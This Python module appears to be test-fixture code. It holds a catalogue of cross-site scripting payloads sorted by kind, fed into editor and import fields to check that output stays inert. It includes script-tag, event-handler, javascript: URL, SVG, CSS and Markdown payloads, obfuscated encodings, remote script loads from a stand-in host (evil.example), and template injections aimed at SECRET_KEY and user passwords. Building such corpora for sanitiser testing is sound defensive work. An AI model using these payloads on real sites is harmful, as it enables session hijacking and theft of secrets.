"""
A corpus of cross-site scripting payloads, by kind.

Each payload tries to get something executable onto a page when it is stored
as content: a script, an event handler, a script URL, an embedded document or
a style that runs code. The tests put them into every field an editor or an
import can fill and check that every response keeps them inert.

Payloads are written one a line in raw strings; "⏎" stands for a line break
(Markdown reference definitions need one). Payloads with invisible or control
characters are written with escapes in ordinary strings.
"""


def _lines(block):
    return [line.replace("⏎", "\n") for line in block.strip("\n").split("\n") if line]


SCRIPT_TAGS = _lines(r"""
<script>alert('xss-script')</script>
<SCRIPT>alert("xss-upper")</SCRIPT>
<ScRiPt>alert('xss-mixed')</sCrIpT>
<script src="https://evil.example/xss.js"></script>
<script src=//evil.example/xss.js></script>
<script>/*</script><script>alert('xss-comment')//*/</script>
<scr<script>ipt>alert('xss-split')</scr</script>ipt>
</script><script>alert('xss-close-first')</script>
<script type="text/javascript">alert('xss-typed')</script>
<script type="module">alert('xss-module')</script>
<script/xss src="data:,alert('xss-slash')"></script>
<<script>alert('xss-double-lt');//<</script>
"><script>alert('xss-attr-break')</script>
'><script>alert('xss-single-break')</script>
</title><script>alert('xss-title')</script>
</textarea><script>alert('xss-textarea')</script>
</style><script>alert('xss-style-close')</script>
<!--<script>alert('xss-in-comment')</script>-->
<script>alert(String.fromCharCode(88,83,83))</script>
<noscript><p title="</noscript><img src=x onerror=alert('xss-noscript')>">
</script><svg onload=alert('xss-jsonld')>
<script type="application/ld+json">{"x":"</script><script>alert('xss-ld')</script>"}</script>
+ADw-script+AD4-alert('xss-utf7')+ADw-/script+AD4-
""")

EVENT_HANDLERS = _lines(r"""
<img src=x onerror=alert('xss-img')>
<img src="x" onerror="alert('xss-img-quoted')">
<IMG SRC=x ONERROR=alert('xss-img-upper')>
<img/src=x/onerror=alert('xss-img-slashes')>
<img src=`x` onerror=alert('xss-backtick')>
<img src=x onerror="&#97;&#108;&#101;&#114;&#116;('xss-entity-handler')">
<img src=x:alert('xss-eval') onerror=eval(src)>
<body onload=alert('xss-body')>
<html onmouseover=alert('xss-html')>
<div onmouseover="alert('xss-hover')">hover me</div>
<a href="#" onclick="alert('xss-click')">click me</a>
<input autofocus onfocus=alert('xss-autofocus')>
<select autofocus onfocus=alert('xss-select')></select>
<textarea autofocus onfocus=alert('xss-textarea-focus')></textarea>
<keygen autofocus onfocus=alert('xss-keygen')>
<details open ontoggle=alert('xss-details')>
<video><source onerror="alert('xss-video')"></video>
<audio src=x onerror=alert('xss-audio')>
<marquee onstart=alert('xss-marquee')>xss</marquee>
<p onpointerenter=alert('xss-pointer')>point here</p>
<span onanimationstart=alert('xss-animation') style="animation-name:x">x</span>
<form><button formaction=javascript:alert('xss-formaction')>go</button></form>
<isindex type=image src=1 onerror=alert('xss-isindex')>
<x onclick=alert('xss-custom-element')>click
<div/onmouseover='alert("xss-slash-attr")'>x</div>
<img src=x onerror=alert&lpar;'xss-lpar'&rpar;>
""") + ['<img """><script>alert(\'xss-img-quotes\')</script>">']

SCRIPT_URLS = _lines(r"""
[click](javascript:alert('xss-md-js'))
[click](JaVaScRiPt:alert('xss-md-mixed'))
[click](javascript&#58;alert('xss-md-colon-entity'))
[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-md-dec'))
[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('xss-md-hex'))
[click](%6A%61%76%61%73%63%72%69%70%74%3Aalert('xss-md-percent'))
[click]( javascript:alert('xss-md-space'))
[click](<javascript:alert('xss-md-angle')>)
[click](javascript://%0Aalert('xss-md-comment'))
[click](javascript:/**/alert('xss-md-block-comment'))
[click]( JAVASCRIPT:alert('xss-md-upper') "title")
[click](vbscript:msgbox('xss-md-vbs'))
[click](VBScript:MsgBox('xss-md-vbs-mixed'))
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWI2NCcpPC9zY3JpcHQ+)
[click](data:text/html,<script>alert('xss-md-data')</script>)
[click](DATA:text/html,%3Cscript%3Ealert('xss-md-data-upper')%3C/script%3E)
[click](livescript:alert('xss-livescript'))
<a href="javascript:alert('xss-a-js')">link</a>
<a href="JAVASCRIPT:alert('xss-a-upper')">link</a>
<a href="jav&#x09;ascript:alert('xss-a-tab-entity')">link</a>
<a href="jav&#x0A;ascript:alert('xss-a-newline-entity')">link</a>
<a href="&#14;javascript:alert('xss-a-control-entity')">link</a>
<a href=" &#x0A;javascript:alert('xss-a-leading')">link</a>
<a href="javascript&colon;alert('xss-a-colon-named')">link</a>
<a href="&#x6A;avascript:alert('xss-a-hex-j')">link</a>
<a href="vbscript:msgbox('xss-a-vbs')">link</a>
<a href="data:text/html;charset=utf-8,%3Cscript%3Ealert('xss-a-data')%3C/script%3E">link</a>
<iframe src="javascript:alert('xss-iframe-js')"></iframe>
<form action="javascript:alert('xss-form-action')"><input type=submit></form>
<table background="javascript:alert('xss-background')"><tr><td>x</td></tr></table>
<object data="javascript:alert('xss-object-js')"></object>
""")

SVG_AND_MATHML = _lines(r"""
<svg onload=alert('xss-svg')>
<svg/onload=alert('xss-svg-slash')>
<svg><script>alert('xss-svg-script')</script></svg>
<svg><a xlink:href="javascript:alert('xss-svg-xlink')"><text x="20" y="20">click</text></a></svg>
<svg><animate onbegin=alert('xss-svg-animate') attributeName=x dur=1s>
<svg><set attributeName="href" to="javascript:alert('xss-svg-set')"/></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert('xss-foreign')</script>"></iframe></foreignObject></svg>
<svg><style>*{x:expression(alert('xss-svg-style'))}</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-mathml-mxss')>
<math href="javascript:alert('xss-math-href')">CLICK</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert('xss-maction')">x</maction></math>
<math><mi xlink:href="data:x,<script>alert('xss-mi')</script>">x</mi></math>
""")

EMBEDDED_DOCUMENTS = _lines(r"""
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="&lt;script&gt;alert('xss-srcdoc')&lt;/script&gt;"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLW9iamVjdCcpPC9zY3JpcHQ+"></object>
<embed src="javascript:alert('xss-embed')">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">
<applet code="xss.class"></applet>
<frameset><frame src="javascript:alert('xss-frame')"></frameset>
<base href="javascript:alert('xss-base')//">
<meta http-equiv="refresh" content="0;url=javascript:alert('xss-refresh')">
<link rel="import" href="data:text/html,<script>alert('xss-import')</script>">
<portal src="https://evil.example/"></portal>
""")

STYLES = _lines(r"""
<style>body{background:url("javascript:alert('xss-css-url')")}</style>
<div style="background-image:url(javascript:alert('xss-style-url'))">x</div>
<div style="width:expression(alert('xss-expression'))">x</div>
<p style="behavior:url(xss.htc)">x</p>
<style>@import 'https://evil.example/xss.css';</style>
<span style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</span>
<link rel="stylesheet" href="javascript:alert('xss-stylesheet')">
<div style="x:\65 xpression(alert('xss-css-escape'))">x</div>
<style>li{list-style-image:url("javascript:alert('xss-list-style')")}</style><ul><li>x</li></ul>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>
""")

MALFORMED_AND_NESTED = _lines(r"""
<<img src=x onerror=alert('xss-double-open')//<
<img src="x" <img src=x onerror=alert('xss-nested-img')//>
<a href="x" <a href="javascript:alert('xss-nested-a')">x</a>
<div><p><b><i><script>alert('xss-deep')</script></i></b></p></div>
<sc<!-- -->ript>alert('xss-comment-split')</script>
<img src=x onerror=alert('xss-unclosed')//
<![CDATA[<script>alert('xss-cdata')</script>]]>
<?xml version="1.0"?><script>alert('xss-pi')</script>
<!DOCTYPE html><script>alert('xss-doctype')</script>
<a href="javascript:alert('xss-unclosed-attr')"<b>x</b>
<img src=x:x onerror=alert('xss-open-b')<b>
<!--[if gte IE 4]><script>alert('xss-conditional')</script><![endif]-->
</a><a href="javascript:alert('xss-close-a')">x</a>
<div id="x"></div></div></div><script>alert('xss-unbalanced')</script>
<<SCRIPT>alert("xss-double-upper");//<</SCRIPT>
<img src='x' onerror='alert(`xss-template-literal`)'
<a href=javascript:alert('xss-unquoted')>x</a>
<noembed><img title="</noembed><img src=x onerror=alert('xss-noembed')>"></noembed>
<template><script>alert('xss-template-tag')</script></template>
<plaintext><script>alert('xss-plaintext')</script>
<xmp><img src=x onerror=alert('xss-xmp')></xmp>
""")

MARKDOWN_TRICKS = _lines(r"""
![x](javascript:alert('xss-md-img'))
![x](x" onerror="alert('xss-md-img-break'))
![x](https://example.com/x.png"onerror="alert('xss-md-img-quote'))
[x](https://example.com" onclick="alert('xss-md-href-break'))
[x](https://example.com "title\" onmouseover=\"alert('xss-md-title')")
<javascript:alert('xss-autolink')>
<vbscript:msgbox('xss-autolink-vbs')>
<data:text/html,<script>alert('xss-autolink-data')</script>>
<https://example.com/"onmouseover="alert('xss-autolink-quote')>
<mailto:x@example.com?subject="><script>alert('xss-mailto')</script>>
[ref][xss-ref]⏎⏎[xss-ref]: javascript:alert('xss-ref-def')
![img][xss-img-ref]⏎⏎[xss-img-ref]: javascript:alert('xss-img-ref-def')
[![x](javascript:alert('xss-nested-img'))](javascript:alert('xss-nested-link'))
[x](javascript:alert('xss-fragment')#https://example.com)
[x](<javascript:alert('xss-angle-title')> "t")
[x](mailto:"><script>alert('xss-mailto-break')</script>)
`<script>alert('xss-code-span')</script>`
    <script>alert('xss-indented-code')</script>
[@key"><script>alert('xss-citation')</script>]
[@<img src=x onerror=alert('xss-citation-img')>]
**<img src=x onerror=alert('xss-bold')>**
| a | <script>alert('xss-table')</script> |⏎|---|---|⏎| <img src=x onerror=alert('xss-cell')> | b |
<span title="x" onclick="alert('xss-allowed-tag')">span</span>
<abbr title="&quot;><script>alert('xss-abbr')</script>">abbr</abbr>
""")

ENTITIES_AND_UNICODE = _lines(r"""
&lt;script&gt;alert('xss-escaped')&lt;/script&gt;
&#60;script&#62;alert('xss-decimal')&#60;/script&#62;
&#x3C;img src=x onerror=alert('xss-hex')&#x3E;
&#0000060script&#0000062alert('xss-padded')
&amp;lt;script&amp;gt;alert('xss-double-escaped')
\u003cscript\u003ealert('xss-js-escape')\u003c/script\u003e
\x3cscript\x3ealert('xss-hex-escape')\x3c/script\x3e
%3Cscript%3Ealert('xss-url-encoded')%3C%2Fscript%3E
""") + [
    "\uff1cscript\uff1ealert('xss-fullwidth')\uff1c/script\uff1e",
    "\u202e>tpircs/<)'sx-ssx'(trela>tpircs<",
    "<scr\u200bipt>alert('xss-zero-width')</scr\u200bipt>",
    "[click](java\u200bscript:alert('xss-zero-width-url'))",
    "\u2028</script><script>alert('xss-line-separator')</script>",
    "\ufeff<script>alert('xss-bom')</script>",
    "<\u017fcript>alert('xss-long-s')</\u017fcript>",
    "<\u0131frame src=javascript:alert('xss-dotless-i')>",
    "<img src=x onerror=\\u0061lert('xss-unicode-escape')>",
    "<a href=\"java\tscript:alert('xss-tab')\">tab</a>",
    "<a href=\"java\nscript:alert('xss-newline')\">newline</a>",
    "[click](java\tscript:alert('xss-md-tab'))",
    "\u0000<script>alert('xss-nul-entity')</script>".replace("\u0000", "&#0;"),
]

TEMPLATE_INJECTIONS = _lines(r"""
{{ 7*7 }}
{{ 1337*1337 }}
{% debug %}
{{ settings.SECRET_KEY }}
{% load static %}{% get_static_prefix %}
${7*7}
#{7*7}
<%= 7*7 %>
{{constructor.constructor('alert(1)')()}}
{{ request.user.password }}
{% include "base.html" %}
{{'a'|upper}}
{% now "Y" %}
{{ csrf_token }}
[[${7*7}]]
{{ '<script>alert(1)</script>'|safe }}
{% autoescape off %}<script>alert('xss-autoescape')</script>{% endautoescape %}
""")

# What the template injections above would have become had they been evaluated.
EVALUATED_MARKERS = ["1787569", "{'True': True, 'False': False", "pbkdf2_sha256$"]

PAYLOADS_BY_KIND = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "script URLs": SCRIPT_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "iframes, objects and other documents": EMBEDDED_DOCUMENTS,
    "styles and CSS expressions": STYLES,
    "malformed and nested tags": MALFORMED_AND_NESTED,
    "Markdown tricks": MARKDOWN_TRICKS,
    "entities and unicode": ENTITIES_AND_UNICODE,
    "template injection": TEMPLATE_INJECTIONS,
}
PAYLOADS = [payload for kind in PAYLOADS_BY_KIND.values() for payload in kind]

# Raw C0 control characters: fine in HTML and JSON, but not allowed in XML 1.0.
CONTROL_CHARACTER_PAYLOADS = [
    "[click](java\x01script:alert('xss-c0-url'))",
    "<a href=\"java\x0bscript:alert('xss-c0-href')\">x</a>",
    "\x1b[31m<script>alert('xss-escape-sequence')</script>",
    "\x02marked\x03 <img src=x onerror=alert('xss-search-markers')>",
    "\x08<script>alert('xss-backspace')</script>",
]

ONE_LINE = [payload for payload in PAYLOADS if "\n" not in payload]


def chunks(payloads, limit, separator=" ", prefix=""):
    """Payloads packed into values of at most ``limit`` characters.

    A payload longer than the limit is cut to fit: a truncated payload is a
    malformed one, which is worth trying too.
    """
    values = []
    current = ""
    room = limit - len(prefix)
    for payload in payloads:
        payload = payload[:room]
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) <= room:
            current = candidate
            continue
        values.append(prefix + current)
        current = payload
    if current:
        values.append(prefix + current)
    return values


def spread(payloads, count, separator="\n\n"):
    """The payloads dealt into ``count`` values, each payload used once."""
    return [separator.join(payloads[index::count]) for index in range(count)]
